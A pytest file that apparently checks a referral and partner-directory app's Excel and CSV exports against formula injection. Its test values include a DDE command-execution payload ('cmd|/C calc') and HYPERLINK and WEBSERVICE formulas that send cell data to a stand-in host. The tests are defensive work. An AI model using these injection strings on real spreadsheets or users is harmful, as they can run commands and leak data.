"""Formulas typed in a sheet: no file that leaves the application makes a spreadsheet run anything (Z-08, L-39)."""

import csv
import io
import zipfile

import openpyxl
import pytest

from exchange.exporting.files import model_workbook, open_workbook, open_zip
from partners.tests.factories import PartnerFactory, ServiceFactory
from referrals.exports import workbook_of
from referrals.models import Referral
from referrals.tests.factories import ReferralFactory, YouthFactory

RUNS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://ailleurs.example?"&A1,"ici")',
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("https://ailleurs.example")',
]
pytestmark = pytest.mark.django_db


def cells(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_list_of_orientations_runs_nothing(educator, association, formula):
    referral = ReferralFactory(youth=YouthFactory(created_by=educator))
    Referral.objects.filter(pk=referral.pk).update(partner_label=formula, service_label=formula)
    educator.first_name = formula[:60]
    written = cells(workbook_of(Referral.objects.all(), by=educator, reason=formula))
    assert not any(cell.data_type == "f" for cell in written)
    assert not any(isinstance(cell.value, str) and cell.value.startswith(RUNS) for cell in written)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_directory_runs_nothing(formula):
    partner = PartnerFactory(name=formula, description=formula)
    ServiceFactory(partner=partner, name=formula)
    for write in (open_workbook, model_workbook):
        # Told to be text, and quoted: typed again, it stays text.
        risky = [cell for cell in cells(write()) if isinstance(cell.value, str) and cell.value.startswith(RUNS)]
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    with zipfile.ZipFile(io.BytesIO(open_zip())) as archive:
        for name in archive.namelist():
            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            assert not any(cell.startswith(("=", "@", "\t", "\r")) for row in rows for cell in row)
